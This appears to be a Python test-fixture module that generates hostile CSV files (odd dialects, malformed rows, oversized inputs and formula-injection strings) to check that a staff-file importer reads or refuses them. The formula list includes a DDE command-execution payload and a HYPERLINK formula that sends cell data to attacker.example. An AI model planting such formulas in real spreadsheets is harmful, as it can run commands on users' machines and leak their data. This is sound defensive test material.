"""CSV in every dialect, with too much of everything, and with formulas."""

import csv
import io
from collections.abc import Iterator
from functools import partial

from tests.hostile.fates import READ, REFUSED, HostileFile, read, refused

ROWS = (("Name", "School", "Started"), ("Ann Lee", 'Oak "The Grove", Ely', "01/09/2024"), ("Ben; Osei", "Elm|Ash", ""))
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
)


def files() -> Iterator[HostileFile]:
    yield from _dialects()
    yield from _odd()
    yield from _too_much()
    for number, formula in enumerate(FORMULAS, start=1):
        yield read(
            f"formula{number}.csv",
            partial(_csv, [("Name", "Note"), ("Ann", formula)]),
            f"the formula {formula!r} in a CSV",
        )


def _dialects() -> Iterator[HostileFile]:
    for separator in ",;\t|":
        for ends in ("\n", "\r\n", "\r"):
            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_ALL):
                make = partial(_csv, ROWS, separator=separator, ends=ends, quoting=quoting)
                yield read("dialect.csv", make, f"a CSV of {separator!r}, {ends!r}, quoting {quoting}")


def _odd() -> Iterator[HostileFile]:
    for what, text in {
        "a line that names its separator": "sep=;\nName;School\nAnn;Oak, Ely\n",
        "a quoted line that names its separator": '"sep=|"\nName|School\nAnn|Oak\n',
        "blank rows everywhere": "\n\n\nName,School\n\n,,\nAnn,Oak\n\n\n,,,\nBen,Elm\n",
        "rows of different widths": "Name,School,Role\nAnn\nBen,Elm,Head,extra,more\n",
        "commas at the end of each row": "Name,School,,,\nAnn,Oak,,,\n",
        "line breaks within cells": 'Name,Note\nAnn,"first line\nsecond line\n\nfourth"\n',
        "quotation marks in the middle": 'Name,Note\nAnn,she said "yes"\nBen,6" ruler\n',
        "a quotation mark that never closes": 'Name,Note\nAnn,"half open\nBen,none\n',
        "headings and nothing beneath": "Name,School,Role\n",
        "one column": "Name\nAnn\nBen\n",
        "one cell": "Ann",
        "the same heading twice": "Name,Name,School\nAnn,Lee,Oak\n",
        "no headings": "1,2,3\n4,5,6\n",
        "a title above the headings": "Staff of the trust\n\nName,School\nAnn,Oak\n",
        "spaces around everything": "  Name ,\tSchool \n  Ann  ,  Oak \n",
        "a hundred thousand quotation marks": "Name,Note\nAnn," + '"' * 32_000 + "\n",
        "numbers with leading zeros": "TRN,Name\n0012345,Ann\n",
        "headings 5,000 letters long": "N" * 5000 + ",School\nAnn,Oak\n",
    }.items():
        yield read("odd.csv", partial(str.encode, text), what)


def _too_much() -> Iterator[HostileFile]:
    yield read("cell.csv", partial(_csv, [("Name", "Note"), ("Ann", "x" * 32_767)]), "a cell as long as allowed")
    yield refused("cell.csv", partial(_csv, [("Name", "Note"), ("Ann", "x" * 32_768)]), "a cell one letter too long")
    yield read("wide.csv", partial(_csv, [[f"c{n}" for n in range(300)], ["1"] * 300]), "as many columns as allowed")
    yield refused("wide.csv", partial(_csv, [[f"c{n}" for n in range(301)], ["1"] * 301]), "one column too many")
    yield refused("wide.csv", lambda: b"name\n" + b"," * 5_000_000 + b"x\n", "five million columns")
    yield read("rows.csv", lambda: b"n,s\n" + b"1,2\n" * 49_999, "as many rows as a document may have")
    yield HostileFile(
        "rows.csv",
        lambda: b"n,s\n" + b"1,2\n" * 50_000,
        REFUSED,
        READ,
        "more rows than a document, not than a staff file",
    )
    yield refused("rows.csv", lambda: b"n,s\n" + b"1,2\n" * 200_000, "more rows than a staff file")
    yield refused("open.csv", lambda: b'n,s\n"' + b"1,2\n" * 40_000, "a quotation mark that swallows the file")
    yield refused("huge.csv", lambda: b"n,s\n" + b"1,2\n" * 14_000_000, "a CSV of 56 MB")


def _csv(rows: object, separator: str = ",", ends: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, lineterminator=ends, quoting=quoting).writerows(rows)  # type: ignore[arg-type]
    return out.getvalue().encode()
